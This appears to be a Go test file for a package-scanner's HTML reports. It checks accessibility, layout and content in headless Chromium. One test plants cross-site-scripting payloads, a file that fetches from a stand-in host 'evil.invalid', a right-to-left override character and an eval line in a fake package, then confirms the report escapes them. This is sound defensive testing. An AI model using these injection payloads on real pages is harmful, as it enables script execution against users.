package main

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"context"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/cdproto/emulation"
	"github.com/chromedp/cdproto/runtime"
	"github.com/chromedp/chromedp"

	"github.com/lockwarden/lockwarden/analyzer"
)

// newBrowser is a headless Chromium, or skips the test.
func newBrowser(t *testing.T, width, height int) context.Context {
	t.Helper()
	if testing.Short() {
		t.Skip("it needs a browser and real packages")
	}
	path := ""
	for _, name := range []string{"chromium", "chromium-browser", "google-chrome"} {
		if found, err := exec.LookPath(name); err == nil {
			path = found
			break
		}
	}
	if path == "" {
		if os.Getenv("CI") != "" {
			t.Fatal("no Chromium; .ci/run installs Debian's")
		}
		t.Skip("no Chromium")
	}
	options := append(chromedp.DefaultExecAllocatorOptions[:], chromedp.ExecPath(path), chromedp.NoSandbox, chromedp.WindowSize(width, height))
	allocator, stop := chromedp.NewExecAllocator(context.Background(), options...)
	t.Cleanup(stop)
	tab, stop := chromedp.NewContext(allocator)
	t.Cleanup(stop)
	tab, stop = context.WithTimeout(tab, 8*time.Minute)
	t.Cleanup(stop)
	return tab
}

// axe is Deque's axe-core, which checks a page against WCAG, from npm by its
// pinned integrity.
func axe(t *testing.T) string {
	t.Helper()
	scanner, err := analyzer.Open(analyzer.Options{OSV: "none"})
	if err != nil {
		t.Fatal(err)
	}
	defer scanner.Close()
	data, err := scanner.Tarball(context.Background(), analyzer.Subject{Name: "axe-core", Version: "4.10.3",
		Integrity: "sha512-Xm7bpRXnDSX2YE2YFfBk2FnF0ep6tmG7xPh8iHee8MIcrgq762Nkce856dYtJYLkuIoYZvGfTs/PbZhideTcEg=="})
	if err != nil {
		t.Fatal(err)
	}
	z, err := gzip.NewReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	for r := tar.NewReader(z); ; {
		header, err := r.Next()
		if err != nil {
			t.Fatal(err)
		}
		if header.Name == "package/axe.min.js" {
			code, err := io.ReadAll(r)
			if err != nil {
				t.Fatal(err)
			}
			return string(code)
		}
	}
}

// accessible runs axe on the page that the browser shows, in both schemes.
func accessible(t *testing.T, tab context.Context, code, what string) {
	t.Helper()
	for _, scheme := range []string{"light", "dark"} {
		must(t, tab, emulate(scheme))
		must(t, tab, chromedp.Evaluate[int](code+";0"))
		found := must(t, tab, chromedp.Evaluate[string](`axe.run({runOnly:['wcag2a','wcag2aa','wcag21a','wcag21aa','wcag22aa','best-practice']}).then(r=>JSON.stringify(r.violations.map(v=>v.id+': '+v.help+' '+v.nodes.slice(0,3).map(n=>n.html.slice(0,200)).join(' | '))))`, awaited))
		var list []string
		if err := json.Unmarshal([]byte(found), &list); err != nil {
			t.Fatal(err)
		}
		for _, v := range list {
			t.Errorf("%s, %s: %s", what, scheme, v)
		}
	}
}

// fits: on a phone nothing sticks out.
func fits(t *testing.T, tab context.Context, what string) {
	t.Helper()
	must(t, tab, chromedp.EmulateViewport(360, 740))
	wide := must(t, tab, chromedp.Evaluate[int](`document.documentElement.scrollWidth-document.documentElement.clientWidth`))
	must(t, tab, chromedp.EmulateViewport(1200, 900))
	if wide > 0 {
		t.Errorf("%s: %d pixels stick out on a phone", what, wide)
	}
}

// report scans a package and returns its page.
func report(t *testing.T, args ...string) string {
	t.Helper()
	var out, errOut bytes.Buffer
	if code := run(append([]string{"scan", "--osv", "none", "--fail-on", "none", "--allow-incomplete", "--format", "html"}, args...), nil, &out, &errOut); code != 0 {
		t.Fatalf("%v: %d %s", args, code, errOut.String())
	}
	return out.String()
}

// maxElements is how many elements the page of a package has at most; that of
// aws-sdk has 5,200.
const maxElements = 6000

// TestReportPages: pages of real packages, in a real browser: accessible, small,
// quick, and nothing is asked of any other host.
func TestReportPages(t *testing.T) {
	t.Parallel()
	tab := newBrowser(t, 1200, 900)
	code := axe(t)
	pages := map[string]string{}
	// aws-sdk is large, next larger still: it is measured by hand.
	for _, name := range []string{"esbuild@0.20.1", "express@4.18.2", "is-number@7.0.0", "aws-sdk@2.1550.0"} {
		pages["/"+name] = report(t, name)
	}
	asked := 0
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		page, ok := pages[r.URL.Path]
		if !ok {
			asked++
			http.NotFound(w, r)
			return
		}
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		_, _ = io.WriteString(w, page)
	}))
	defer server.Close()
	for path, page := range pages {
		name, version, _ := strings.Cut(strings.TrimPrefix(path, "/"), "@")
		if len(page) > 300_000 {
			t.Errorf("%s has %d kB", path, len(page)/1000)
		}
		must(t, tab, chromedp.Navigate(server.URL+path))
		title, heading, text := must(t, tab, chromedp.Title()), must(t, tab, chromedp.Text("h1")), must(t, tab, chromedp.Text("main"))
		resources := must(t, tab, chromedp.Evaluate[int](`performance.getEntriesByType('resource').filter(e=>!e.name.endsWith('/favicon.ico')).length`))
		// What a page costs until it is seen is what it has to lay out: a clock would say
		// how busy this machine is.
		nodes := must(t, tab, chromedp.Evaluate[int](`document.querySelectorAll('*').length`))
		if !strings.Contains(title, name) || !strings.Contains(heading, version) || resources != 0 {
			t.Errorf("%s: %q %q, %d other files", path, title, heading, resources)
		}
		for _, want := range []string{"Top issues", "Top behaviors", "Top vulnerabilities", "Dependencies", "Files", "Versions", "not scanned here", "no database of advisories is set (--osv none)"} {
			if !strings.Contains(text, want) {
				t.Errorf("%s lacks %q", path, want)
			}
		}
		t.Logf("%s: %d kB, %d elements", path, len(page)/1000, nodes)
		if nodes > maxElements {
			t.Errorf("%s: %d elements", path, nodes)
		}
		accessible(t, tab, code, path)
		fits(t, tab, path)
		if name == "esbuild" {
			looks(t, tab, "report")
		}
	}
	text := pages["/esbuild@0.20.1"]
	for _, want := range []string{"Uses the network during installation", "scripts.postinstall", "class=\"n\">", "Top 100", "<data value=\"1\">1</data> of <data value=\"100\">100</data> scanned", "install.js:145", "An extremely fast JavaScript and CSS bundler and minifier.", `<span class="badge plain">Top 100</span>`, `<dt>Compliance</dt><dd><span class="badge success">nothing found</span>`, "the worst medium", "advisories are not known", "rel=\"noreferrer noopener\">https://github.com/evanw/esbuild<"} {
		if !strings.Contains(text, want) {
			t.Errorf("the page of esbuild lacks %q", want)
		}
	}
}

// TestHostileReport: what a package writes into its page is text.
func TestHostileReport(t *testing.T) {
	t.Parallel()
	tab := newBrowser(t, 1200, 900)
	dir := t.TempDir()
	const evil = `</code></pre><script>document.title='run'</script><img src=x onerror="document.title='run'"><a href='javascript:document.title=1'>x</a>`
	manifest, err := json.Marshal(map[string]any{"name": evil, "version": "1.0.0" + evil, "license": evil, "repository": "javascript:alert(1)//" + evil, "scripts": map[string]string{"postinstall": "node 'x.js' " + evil},
		"dependencies": map[string]string{evil: evil}})
	if err != nil {
		t.Fatal(err)
	}
	for name, text := range map[string]string{
		"package.json":             string(manifest),
		"x.js":                     "require('http').get('https://evil.invalid/" + strings.ReplaceAll(evil, "'", "\\'") + "')\u202e\n// " + evil + "\nprocess.env['" + strings.ReplaceAll(evil, "'", "\\'") + "']\n",
		"<svg onload=alert(1)>.js": "eval(process.argv[2])",
	} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	page := report(t, dir)
	if strings.ContainsRune(page, '\u202e') {
		t.Error("text can be turned around")
	}
	file := filepath.Join(t.TempDir(), "page.html")
	if err := os.WriteFile(file, []byte(page), 0o600); err != nil {
		t.Fatal(err)
	}
	must(t, tab, chromedp.Navigate("file://"+file))
	time.Sleep(300 * time.Millisecond)
	title := must(t, tab, chromedp.Title())
	elements := must(t, tab, chromedp.Evaluate[[]string](`[...document.querySelectorAll('script,img,iframe,object,embed,[onerror],[onload],[style],a[href^="javascript"],a[href^="data"]')].map(e=>e.outerHTML.slice(0,100))`))
	if title == "run" || title == "1" || len(elements) > 0 {
		t.Errorf("it ran: title %q, elements %q", title, elements)
	}
	if !strings.Contains(page, "&lt;script&gt;") || !strings.Contains(page, "evil.invalid") {
		t.Error("the page does not show what the package says")
	}
}

// awaited waits for a promise.
func awaited(p *runtime.EvaluateParams) { yes := true; p.AwaitPromise = &yes }

// emulate is a reader's light or dark scheme.
func emulate(scheme string) chromedp.Action[chromedp.Void] {
	return func(ctx context.Context, target *chromedp.Target) (chromedp.Void, error) {
		_, err := cdp.Call(ctx, target, emulation.SetEmulatedMedia, emulation.SetEmulatedMediaParams{Features: []*emulation.MediaFeature{{Name: "prefers-color-scheme", Value: scheme}}})
		return chromedp.Void{}, err
	}
}
